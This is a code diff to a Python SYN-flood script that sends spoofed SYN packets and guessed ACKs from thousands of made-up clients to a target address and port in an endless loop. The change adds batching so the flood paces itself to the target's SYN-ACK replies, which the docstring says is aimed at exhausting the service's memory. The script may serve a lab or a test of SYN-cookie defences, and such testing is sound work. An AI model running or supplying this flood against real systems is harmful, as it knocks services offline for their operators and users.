@@ -1,6 +1,7 @@
 """syn_flood.py DEVICE GATEWAY_MAC ADDRESS PORT COUNT: SYNs from COUNT different made-up clients of 10.98.0.0/16, again and again until ended.
 
-Every eighth is followed by an ACK that guesses. A line says when every SYN has been sent once.
+Every eighth is followed by an ACK that guesses. A line says when every SYN has been sent once. Sent as fast as they are answered: what
+cookies are for is the service's memory, not its share of a busy CPU.
 """
 import random
 import socket
@@ -9,8 +10,10 @@ import sys
 from frames import ACK, SYN, ethernet, ip, tcp
 
 device, mac, address, port, count = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
+BATCH = 128
 raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 raw.bind((device, 0x0800))
+raw.settimeout(0.05)
 own_mac = raw.getsockname()[4]
 rnd = random.Random(4987)
 # MSS 1460, window scale 7, SACK-permitted, a timestamp
@@ -23,6 +26,24 @@ def frame(i, flags, ack, options):
     return ethernet(mac, own_mac, ip(source, address, segment))
 
 
+def send(f):
+    try:
+        raw.send(f)
+    except OSError:  # ENOBUFS: the device's queue is full, which is no failure of a flood
+        pass
+
+
+def await_answers():
+    """Most of a batch was answered, or nothing comes: the flood is as fast as the service, not as the machine."""
+    answers = 0
+    while answers < BATCH * 3 // 4:
+        try:
+            answer, sender = raw.recvfrom(128)
+        except TimeoutError:
+            return
+        answers += sender[2] != socket.PACKET_OUTGOING and len(answer) > 47 and answer[47] == SYN | ACK
+
+
 def main():
     frames = []
     for i in range(count):
@@ -32,11 +53,10 @@ def main():
     print("ready", flush=True)
     rounds = 0
     while True:
-        for f in frames:
-            try:
-                raw.send(f)
-            except OSError:  # ENOBUFS: the device's queue is full, which is no failure of a flood
-                pass
+        for i in range(0, len(frames), BATCH):
+            for f in frames[i:i + BATCH]:
+                send(f)
+            await_answers()
         rounds += 1
         if rounds == 1:
             print("%d SYNs sent" % count, flush=True)
